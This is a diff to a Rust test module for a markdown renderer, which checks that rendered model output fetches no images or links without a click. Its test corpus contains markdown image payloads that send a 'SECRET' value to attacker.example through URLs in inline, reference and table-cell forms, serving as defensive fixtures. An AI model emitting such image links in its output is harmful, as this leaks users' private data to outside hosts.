@@ -1,13 +1,14 @@
 //! Tests that rendered model output loads nothing by itself (images become
 //! placeholders, links need a click and show their destination) and that any
-//! input stays cheap to sanitise (deep nesting is flattened, content kept).
+//! input stays cheap to put into the page (deep nesting is flattened, content
+//! kept).
 
 use super::events::MAX_DEPTH;
 use super::{EAGER_TAIL_BYTES, RenderMode, StreamingMarkdown, render, render_with};
 
 /// The corpus: markdown and how many image placeholders with a "Load image"
 /// button its whole rendering has.
-const CORPUS: &[(&str, usize)] = &[
+pub(super) const CORPUS: &[(&str, usize)] = &[
     ("![secret](https://attacker.example/p.png?q=SECRET)", 1),
     ("See ![x][r] here.\n\nMore text.\n\n[r]: https://attacker.example/ref.png\n", 1),
     ("| a | b |\n|---|---|\n| ![cell](https://attacker.example/t.png) | x |\n", 1),
